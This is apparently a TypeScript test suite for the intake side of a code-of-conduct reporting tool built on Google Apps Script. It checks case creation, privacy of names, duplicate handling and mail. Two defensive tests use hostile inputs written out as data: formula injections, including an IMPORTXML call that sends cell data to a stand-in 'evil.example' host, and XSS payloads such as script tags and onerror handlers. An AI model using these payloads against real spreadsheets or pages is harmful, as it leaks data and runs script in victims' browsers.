// Intake through the built bundle: one report becomes one code-named case (registry row, private Doc, status row), then acknowledgment, urgent alert and screening mail.
import { DOC_SECTIONS } from '../../src/core/case-model';
import {
  OWNER,
  addSpaceRow,
  linkClaims,
  linkUrlsIn,
  registryRows,
  startWorkspace,
  statusRows,
  submitAnswers,
  type Desk,
} from './desk';
import { expectInvariants } from './invariants';

const REPORTER = { name: 'Rita Alvarez', email: 'rita@example.net' };
const REPORTED = { name: 'Sam Doe' };
const WITNESS = { name: 'Wendy Okonkwo' };
const PEOPLE = { reporter: REPORTER, reported: [REPORTED], witnesses: [WITNESS] };
const WHAT =
  'In the #general channel Sam kept sending me messages after I asked them to stop.\nIt happened three times.';

function fullReport(extra: Record<string, string> = {}): Record<string, string> {
  return {
    'Your name': REPORTER.name,
    'Your email address': REPORTER.email,
    'Are you reporting on behalf of someone else?': 'No',
    'Who was involved?': REPORTED.name,
    'When did it happen?': 'Last Tuesday evening',
    'What happened?': WHAT,
    'Were there witnesses?': WITNESS.name,
    'Is anyone in immediate danger?': 'No',
    ...extra,
  };
}

function mailsBySubject(h: Desk, pattern: RegExp) {
  return h.ws.mail().filter((m) => pattern.test(m.subject));
}

const SCREENING = /conflict of interest/i;
const ACK = /We received your report/;
const URGENT = /^Urgent:/;

describe('a report becomes one case', () => {
  test('registry row, status row, private Doc in the folder, and the three kinds of mail', () => {
    const h = startWorkspace();
    const { responseId, results } = submitAnswers(h, fullReport(), PEOPLE);
    expect(results.map((r) => r.record.outcome)).toEqual(['ok']);

    const cases = registryRows(h, 'Cases');
    expect(cases).toHaveLength(1);
    const c = cases[0];
    expect(c['Case ID']).toMatch(/^c_[0-9a-f]{12}$/);
    expect(c['Code Name']).toMatch(/^[a-z]{3,10} [a-z]{3,10}$/);
    expect(c).toMatchObject({
      'Response ID': responseId,
      Phase: 'screening',
      'Reporter Name': REPORTER.name,
      'Reporter Email': REPORTER.email,
      'Reporter Email Problem': '',
      Danger: 'no',
    });
    expect(JSON.parse(c.Reported).names).toEqual([REPORTED.name]);
    expect(JSON.parse(c.Witnesses).names).toEqual([WITNESS.name]);
    const received = h.ws.data.forms()[0].submitted.find((r) => r.id === responseId)!.timestamp;
    expect(c['Received At']).toBe(received);
    const receivedMs = Date.parse(received);
    expect(JSON.parse(c.Deadlines)).toMatchObject({
      acknowledgeBy: new Date(receivedMs + 24 * 3600e3).toISOString(),
      followUpBy: new Date(receivedMs + 7 * 24 * 3600e3).toISOString(),
    });

    expect(statusRows(h)).toEqual([
      {
        'Safety risk?': 'Unknown',
        'Risk of repeating?': 'Unknown',
        Status: 'New',
        'Code Name': c['Code Name'],
        'Date & Time': '2026-03-02 09:00',
        'Actions needed': 'Members to declare conflicts',
        Resolution: '',
      },
    ]);

    const doc = h.ws.data.doc(c['Doc ID']);
    expect(doc.title).toBe(c['Code Name']);
    expect(doc.paragraphs.filter((p) => p.heading !== 'NORMAL').map((p) => [p.heading, p.text])).toEqual(
      DOC_SECTIONS.map((s) => ['HEADING2', s]),
    );
    const underReport = doc.paragraphs
      .slice(
        1,
        doc.paragraphs.findIndex((p) => p.text === 'Committee discussions'),
      )
      .map((p) => p.text);
    expect(underReport).toEqual([
      'Your name',
      REPORTER.name,
      'Your email address',
      REPORTER.email,
      'Are you reporting on behalf of someone else?',
      'No',
      'Who was involved?',
      REPORTED.name,
      'When did it happen?',
      'Last Tuesday evening',
      'What happened?',
      WHAT,
      'Were there witnesses?',
      WITNESS.name,
      'Is anyone in immediate danger?',
      'No',
    ]);
    // The seed's evaluation questions wait under `Committee discussions`, where the committee answers them.
    const discussions = doc.paragraphs.findIndex((p) => p.text === 'Committee discussions');
    expect(doc.paragraphs.slice(discussions + 1, discussions + 5).map((p) => p.text.split(':')[0])).toEqual([
      'Questions from the procedure (answer them here, with dates)',
      'Jurisdiction',
      'Impact',
      'Risk',
    ]);
    expect(doc.paragraphs[discussions + 2].text).toContain('Did it happen in a space within the Code of Conduct');
    expect(doc.paragraphs[discussions + 3].text).toContain('Does it involve a community leader?');
    expect(doc.paragraphs[discussions + 4].text).toContain('Is anyone\u2019s safety at risk?');
    expect(doc.paragraphs[doc.paragraphs.length - 1].text).toMatch(/^2026-03-02 09:00 \S+ — Report received/);
    const file = h.ws.data.file(c['Doc ID']);
    expect(file).toMatchObject({
      access: 'PRIVATE',
      parents: [h.ids.folder],
      editors: [],
      viewers: [],
      inSharedFolder: false,
      owner: OWNER,
    });
    expect(doc.everHadAccess.filter((e) => e !== OWNER)).toEqual([]);
    // Made in the private folder, not re-shareable, in one call: never in My Drive's root, never moved.
    const made = results[0].record.calls;
    expect([made['Drive.Files.create'], made['DocumentApp.create'] ?? 0, made['File.moveTo'] ?? 0]).toEqual([1, 0, 0]);
    const drive = (h.ws.data.globals() as { Drive: GoogleAppsScript.Drive }).Drive;
    const read = h.ws.rt.runExecution({ kind: 'editor', fn: 'test', activeUser: OWNER, effectiveUser: OWNER }, () =>
      drive.Files!.get(c['Doc ID'], { fields: 'writersCanShare' }),
    );
    expect(read.value).toEqual({ writersCanShare: false });

    const ack = h.ws.mailTo(REPORTER.email);
    expect(ack).toHaveLength(1);
    expect(ack[0].subject).toBe('We received your report');
    expect(ack[0].body).not.toContain('Sam');
    expect(ack[0].body).not.toContain('channel');
    expect(mailsBySubject(h, URGENT)).toEqual([]);

    const screening = mailsBySubject(h, SCREENING);
    expect(screening.map((m) => m.to).sort()).toEqual([['ana@example.org'], ['bo@example.org'], ['cy@example.org']]);
    const members = registryRows(h, 'Members');
    for (const mail of screening) {
      expect(mail.body).toContain(`We have a report that involves ${REPORTED.name}`);
      for (const text of [mail.body, mail.htmlBody, mail.subject]) {
        expect(text).not.toContain(REPORTER.name);
        expect(text).not.toContain(REPORTER.email);
        expect(text).not.toContain(WITNESS.name);
        expect(text).not.toContain('channel');
      }
      const member = members.find((m) => m.Email === mail.to[0])!;
      const claims = linkUrlsIn(mail.body, h.ws.webAppUrl).map(linkClaims);
      expect(claims.map((x) => x.act).sort()).toEqual(['conflict', 'no-conflict']);
      for (const claim of claims) expect(claim).toMatchObject({ sub: member['Member ID'], cid: c['Case ID'] });
      expect(linkUrlsIn(mail.htmlBody.replace(/&amp;/g, '&'), h.ws.webAppUrl)).toHaveLength(2);
    }
    expect(members.map((m) => [m.Email, m['Onboarded At'], m.Active])).toEqual([
      ['ana@example.org', '', 'TRUE'],
      ['bo@example.org', '', 'TRUE'],
      ['cy@example.org', '', 'TRUE'],
    ]);
    const audit = registryRows(h, 'Audit').filter((a) => a['Case ID'] === c['Case ID']);
    expect(audit.map((a) => a.Event)).toContain('case.created');
  });

  test('danger reported: every active member gets an urgent alert with the code name and a case link only', () => {
    const h = startWorkspace();
    submitAnswers(h, fullReport({ 'Is anyone in immediate danger?': 'Yes' }), PEOPLE);
    const c = registryRows(h, 'Cases')[0];
    expect(c.Danger).toBe('yes');
    const urgent = mailsBySubject(h, URGENT);
    expect(urgent.map((m) => m.to[0]).sort()).toEqual(['ana@example.org', 'bo@example.org', 'cy@example.org']);
    for (const mail of urgent) {
      expect(mail.subject).toContain(c['Code Name']);
      for (const text of [mail.body, mail.htmlBody]) {
        expect(text).not.toContain(REPORTED.name);
        expect(text).not.toContain(REPORTER.name);
        expect(text).not.toContain('channel');
      }
      expect(
        linkUrlsIn(mail.body, h.ws.webAppUrl)
          .map(linkClaims)
          .map((x) => x.act),
      ).toEqual(['case']);
    }
    // Urgent alerts are queued before the screening so they go out first.
    const order = h.ws
      .mail()
      .map((m) => (URGENT.test(m.subject) ? 'urgent' : SCREENING.test(m.subject) ? 'screening' : 'ack'));
    expect(order.indexOf('urgent')).toBeLessThan(order.indexOf('screening'));
  });

  test('"Not sure" about danger also alerts; inactive members get nothing', () => {
    const h = startWorkspace({
      members: [
        { name: 'Ana Lima', email: 'ana@example.org' },
        { name: 'Old Member', email: 'old@example.org', active: false },
      ],
    });
    submitAnswers(h, fullReport({ 'Is anyone in immediate danger?': 'Not sure' }), PEOPLE);
    expect(mailsBySubject(h, URGENT).map((m) => m.to[0])).toEqual(['ana@example.org']);
    expect(h.ws.mailTo('old@example.org')).toEqual([]);
    expect(registryRows(h, 'Members').map((m) => m.Email)).toEqual(['ana@example.org']);
  });

  test('the space chosen on the Form is kept in the registry, never in the status sheet', () => {
    const h = startWorkspace();
    addSpaceRow(h, 'Discourse', ['mods@example.org']);
    h.ws.run('setup');
    submitAnswers(h, fullReport({ 'Where did it happen?': 'Discourse' }), PEOPLE);
    expect(registryRows(h, 'Cases')[0].Space).toBe('Discourse');
    expect(JSON.stringify(statusRows(h))).not.toContain('Discourse');
  });

  test('the code name shares no word with the names in the report and is unique across cases', () => {
    const h = startWorkspace();
    const names: string[] = [];
    for (let i = 0; i < 12; i++) {
      const reported = `Tester${String.fromCharCode(97 + i)} Person${i}`;
      names.push(reported);
      submitAnswers(
        h,
        { 'Who was involved?': reported, 'What happened?': `report ${i}` },
        { reported: [{ name: reported }] },
      );
    }
    const codeNames = registryRows(h, 'Cases').map((c) => c['Code Name']);
    expect(new Set(codeNames).size).toBe(12);
    codeNames.forEach((code, i) => {
      for (const word of code.split(' '))
        for (const token of names[i].toLowerCase().split(' '))
          expect(token.includes(word) || word.includes(token)).toBe(false);
    });
  });
});

describe('duplicates and blanks', () => {
  test('a response delivered three times is one case, one row, one Doc, and each message once', () => {
    const h = startWorkspace();
    const { results } = submitAnswers(h, fullReport({ 'Is anyone in immediate danger?': 'Yes' }), PEOPLE, 3);
    expect(results.map((r) => r.record.outcome)).toEqual(['ok', 'ok', 'ok']);
    expect(registryRows(h, 'Cases')).toHaveLength(1);
    expect(statusRows(h)).toHaveLength(1);
    expect(h.ws.data.docs()).toHaveLength(1);
    expect(h.ws.mail()).toHaveLength(1 + 3 + 3);
    expect(registryRows(h, 'Audit').filter((a) => a.Event === 'intake.duplicate-ignored')).toHaveLength(2);
    // The repeats only read what they must: no Doc, no mail, no status write.
    for (const r of results.slice(1)) {
      expect(r.record.calls['Drive.Files.create'] ?? 0).toBe(0);
      expect(r.record.calls['DocumentApp.create'] ?? 0).toBe(0);
      expect(r.record.calls['MailApp.sendEmail'] ?? 0).toBe(0);
    }
  });

  test('blank events and all-blank answers create nothing', () => {
    const h = startWorkspace();
    const blank = h.ws.fireBlankSubmit();
    expect(blank.map((r) => r.record.outcome)).toEqual(['ok']);
    // The Form requires "What happened?"; an answer of blanks is still no report.
    submitAnswers(h, { 'Your name': '   ', 'What happened?': ' \n\t ' });
    expect(registryRows(h, 'Cases')).toEqual([]);
    expect(statusRows(h)).toEqual([]);
    expect(h.ws.data.docs()).toEqual([]);
    expect(h.ws.mail()).toEqual([]);
    expectInvariants(h.ws, h.k);
  });

  test('two submissions back to back become two cases with their own rows and Docs', () => {
    const h = startWorkspace();
    submitAnswers(h, fullReport(), PEOPLE);
    submitAnswers(
      h,
      { 'Who was involved?': 'Pat Quinn', 'What happened?': 'Something else.' },
      { reported: [{ name: 'Pat Quinn' }] },
    );
    const cases = registryRows(h, 'Cases');
    expect(cases).toHaveLength(2);
    expect(new Set(cases.map((c) => c['Code Name'])).size).toBe(2);
    expect(statusRows(h).map((r) => r['Code Name'])).toEqual(cases.map((c) => c['Code Name']));
    expect(
      h.ws.data
        .docs()
        .map((d) => d.title)
        .sort(),
    ).toEqual(cases.map((c) => c['Code Name']).sort());
    expect(mailsBySubject(h, SCREENING)).toHaveLength(6);
  });

  test('a status row a member added by hand and rows they sorted do not confuse intake', () => {
    const h = startWorkspace();
    submitAnswers(h, fullReport(), PEOPLE);
    h.ws.data.ui.editCell(OWNER, h.ids.status, 'Cases', 3, 4, 'hand made');
    h.ws.data.ui.sortSheet(OWNER, h.ids.status, 'Cases', 4, false);
    submitAnswers(
      h,
      { 'Who was involved?': 'Pat Quinn', 'What happened?': 'Another.' },
      { reported: [{ name: 'Pat Quinn' }] },
    );
    const codes = statusRows(h).map((r) => r['Code Name']);
    expect(codes).toHaveLength(3);
    expect(codes).toContain('hand made');
    for (const c of registryRows(h, 'Cases')) expect(codes.filter((x) => x === c['Code Name'])).toHaveLength(1);
  });
});

describe('bad input gets a clear, recorded outcome and no report is lost', () => {
  test('anonymous report: case created, nothing sent to anyone but the committee', () => {
    const h = startWorkspace();
    submitAnswers(h, { 'Who was involved?': REPORTED.name, 'What happened?': WHAT }, { reported: [REPORTED] });
    const c = registryRows(h, 'Cases')[0];
    expect(c).toMatchObject({ 'Reporter Name': '', 'Reporter Email': '', 'Reporter Email Problem': '' });
    expect(h.ws.mail().every((m) => m.to[0].endsWith('@example.org'))).toBe(true);
    expect(registryRows(h, 'Audit').find((a) => a.Event === 'case.created')?.Detail).toMatch(
      /acknowledgment: none \(no address given\)/,
    );
  });

  test.each([
    ['invalid', 'rita at example dot net'],
    ['multiple', 'rita@example.net, other@example.net'],
  ])('an %s reporter address: case created, no acknowledgment, recorded in registry and audit', (problem, typed) => {
    const h = startWorkspace();
    submitAnswers(h, fullReport({ 'Your email address': typed }), PEOPLE);
    const c = registryRows(h, 'Cases')[0];
    expect(c).toMatchObject({ 'Reporter Email': '', 'Reporter Email Problem': problem, Phase: 'screening' });
    expect(h.ws.mail().filter((m) => ACK.test(m.subject))).toEqual([]);
    expect(
      h.ws
        .mail()
        .map((m) => m.to[0])
        .filter((to) => to.includes('example.net')),
    ).toEqual([]);
    const audit = registryRows(h, 'Audit');
    expect(audit.find((a) => a.Event === 'intake.reporter-email-unusable')?.Detail).toContain(problem);
    expect(JSON.stringify(audit)).not.toContain('rita');
    expect(mailsBySubject(h, SCREENING)).toHaveLength(3);
  });

  test('missing answers: only "What happened?" given; screening says no person was named', () => {
    const h = startWorkspace();
    submitAnswers(h, { 'What happened?': WHAT });
    const c = registryRows(h, 'Cases')[0];
    expect(JSON.parse(c.Reported)).toEqual({ names: [], emails: [], handles: [] });
    const doc = h.ws.data.doc(c['Doc ID']);
    expect(doc.text).toContain(WHAT);
    expect(doc.text).not.toContain('Your name');
    for (const mail of mailsBySubject(h, SCREENING)) expect(mail.body).toContain('does not name the person');
  });

  test('a 100,000-character answer is kept whole in the Doc; registry cells stay under the cell limit', () => {
    const h = startWorkspace();
    const long = 'x'.repeat(40000) + ' Sam Doe ' + 'y'.repeat(60000);
    expect(long.length).toBeGreaterThanOrEqual(100000);
    submitAnswers(
      h,
      fullReport({ 'What happened?': long, 'Who was involved?': 'Sam Doe ' + 'z'.repeat(99990) }),
      PEOPLE,
    );
    const c = registryRows(h, 'Cases')[0];
    const doc = h.ws.data.doc(c['Doc ID']);
    expect(doc.paragraphs.some((p) => p.text === long)).toBe(true);
    for (const sheet of h.ws.data.sheets(h.ids.registry))
      for (const row of sheet.rows) for (const cell of row) expect(String(cell).length).toBeLessThan(50000);
    for (const mail of mailsBySubject(h, SCREENING)) expect(mail.body.length).toBeLessThan(5000);
  });

  it('ADV-351 a stranger submits a report whose answers run to 1.5 million characters: the case opens with the report cut where the Doc would fill, and its reporter is acknowledged', () => {
    const h = startWorkspace();
    const flood = 'He keeps writing to me. '.repeat(45000);
    const { results } = submitAnswers(
      h,
      fullReport({ 'What happened?': flood, 'Anything else we should know?': flood.slice(0, 500000) }),
      PEOPLE,
    );
    // Before: `Document is too large: a Google Doc holds at most 1,020,000 characters.`: no case, every sweep tried the
    // response again, and the reporter was never acknowledged.
    expect(results.map((r) => r.record.outcome)).toEqual(['ok']);
    const c = registryRows(h, 'Cases')[0];
    const doc = h.ws.data.doc(c['Doc ID']);
    expect(doc.text.length).toBeLessThan(450000);
    expect(doc.text).toContain('(Cut here: the case document keeps 400000 characters of a report.)');
    expect(doc.text).toContain('Is anyone in immediate danger?');
    expect(mailsBySubject(h, ACK)).toHaveLength(1);
    expectInvariants(h.ws, h.k);
  });

  test('answers starting with = + - @ are stored as text everywhere they land', () => {
    const h = startWorkspace();
    const hostile = {
      'Your name': '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      'Your email address': '@rita@example.net',
      'Who was involved?': '+Sam Doe',
      'When did it happen?': '-1+2',
      'What happened?': '=HYPERLINK("https://evil.example","click")',
      'Anything else we should know?': '@SUM(1,2)',
    };
    submitAnswers(h, hostile, { reporter: { name: 'IMPORTXML' }, reported: [REPORTED] });
    const c = registryRows(h, 'Cases')[0];
    expect(c['Reporter Name']).toBe(hostile['Your name']);
    for (const sheet of [...h.ws.data.sheets(h.ids.registry), ...h.ws.data.sheets(h.ids.status)]) {
      expect(sheet.formulas.flat().filter(Boolean)).toEqual([]);
    }
    const doc = h.ws.data.doc(c['Doc ID']);
    for (const value of Object.values(hostile)) expect(doc.text).toContain(value);
    expect(JSON.stringify(statusRows(h))).not.toMatch(/HYPERLINK|IMPORTXML|SUM/);
  });

  test('HTML and control characters are escaped in every HTML body', () => {
    const h = startWorkspace();
    submitAnswers(
      h,
      fullReport({
        'Your name': '<b>Rita</b>\u0000 Alvarez',
        'Who was involved?': 'Sam "Sly" O\'Doe\u0007, <img src=x onerror=alert(1)><script>x()</script>',
        'What happened?': '<a href="javascript:alert(1)">link</a>',
        'Is anyone in immediate danger?': 'Yes',
      }),
      { reporter: { name: 'Rita Alvarez' }, reported: [{ name: 'Sam' }] },
    );
    const mails = h.ws.mail();
    expect(mails.map((m) => m.subject).sort()).toEqual(expect.arrayContaining(['We received your report']));
    for (const mail of mails) {
      expect(mail.htmlBody).not.toMatch(/<(img|script|b)\b/i);
      expect(mail.htmlBody).not.toMatch(/href="javascript:/);
      // eslint-disable-next-line no-control-regex -- the test is that no control character got through
      expect(mail.htmlBody + mail.body + mail.subject).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    }
    const screening = mailsBySubject(h, SCREENING)[0];
    expect(screening.htmlBody).toContain('Sam &quot;Sly&quot; O&#39;Doe');
    expect(screening.body).toContain('Sam "Sly" O\'Doe');
    const ack = h.ws.mailTo(REPORTER.email)[0];
    // The receipt greets nobody by name (ADV-131), so the hostile name reaches it in no form at all.
    expect(ack.htmlBody).toMatch(/<p>Hello,<\/p>/);
    expect(ack.htmlBody + ack.body).not.toMatch(/Rita|Alvarez/);
  });

  test('names written anywhere in the report never reach the status sheet, titles, subjects, audit or logs', () => {
    const h = startWorkspace();
    const people = {
      reporter: { name: 'Maria Gonzalez', email: 'maria.g@example.net' },
      reported: [{ name: 'Tom Riddle', email: 'tom@example.net' }],
      witnesses: [{ name: 'Priya Natarajan' }],
    };
    submitAnswers(
      h,
      {
        'Your name': 'Maria Gonzalez',
        'Your email address': 'maria.g@example.net',
        'Who was involved?': 'Tom Riddle (tom@example.net)',
        'Were there witnesses?': 'Priya Natarajan',
        'What happened?': 'Tom Riddle said things to Maria Gonzalez; Priya Natarajan saw it.',
        'Is anyone in immediate danger?': 'Yes',
      },
      people,
    );
    // expectInvariants (invariant 5) already ran inside submitReport; check the places by hand too.
    const c = registryRows(h, 'Cases')[0];
    const places = [
      JSON.stringify(statusRows(h)),
      h.ws.data.doc(c['Doc ID']).title,
      ...h.ws.mail().map((m) => m.subject),
      JSON.stringify(registryRows(h, 'Audit')),
      h.ws
        .logs()
        .map((l) => l.text)
        .join('\n'),
    ];
    for (const place of places)
      for (const word of ['Maria', 'Gonzalez', 'Riddle', 'Priya', 'maria.g@', 'tom@'])
        expect(place).not.toContain(word);
  });
});

describe('cost', () => {
  test('intake reads each store once and writes in a bounded number of calls, whatever the number of cases', () => {
    const h = startWorkspace();
    // The first intake also registers the members (one more write); compare the steady state after it.
    submitAnswers(h, fullReport(), PEOPLE);
    const second = submitAnswers(
      h,
      { 'Who was involved?': 'Lee Park', 'What happened?': 'second' },
      { reported: [{ name: 'Lee Park' }] },
    ).results[0].record;
    for (let i = 0; i < 15; i++)
      submitAnswers(
        h,
        { 'Who was involved?': `Pat${i} Quinn`, 'What happened?': `case ${i}` },
        { reported: [{ name: `Pat${i} Quinn` }] },
      );
    const later = submitAnswers(
      h,
      { 'Who was involved?': 'Kim Ode', 'What happened?': 'late case' },
      { reported: [{ name: 'Kim Ode' }] },
    ).results[0].record;
    for (const method of [
      'Range.getValues',
      'Range.setValues',
      'SpreadsheetApp.flush',
      'SpreadsheetApp.openById',
      'Drive.Files.create',
      'MailApp.sendEmail',
      'Properties.getProperties',
    ]) {
      expect([method, later.calls[method] ?? 0]).toEqual([method, second.calls[method] ?? 0]);
    }
    // One read per tab touched: registry Cases, Archived Cases (a code name is unique among archived cases too),
    // Members, Outbox (its header only: a new case's mail is queued and sent without the rows before it); status
    // Cases, Committee, Settings; plus the status header, read again before the new row is appended.
    expect(second.calls['Range.getValues']).toBe(8);
    // Registry row first (crash safety), then one commit (Doc id + phase, outbox, audit), then the sent marks; the
    // status row goes with appendRow, after whatever rows members added meanwhile.
    expect(second.calls['Range.setValues']).toBe(5);
    expect(second.calls['Sheet.appendRow']).toBe(1);
    // Flushes: the registry row first (crash safety); the commit; the sent marks.
    expect(second.calls['SpreadsheetApp.flush']).toBe(3);
    expect(second.calls['MailApp.sendEmail']).toBe(3);
    expect(second.calls['Properties.getProperties']).toBe(1);
  });
});
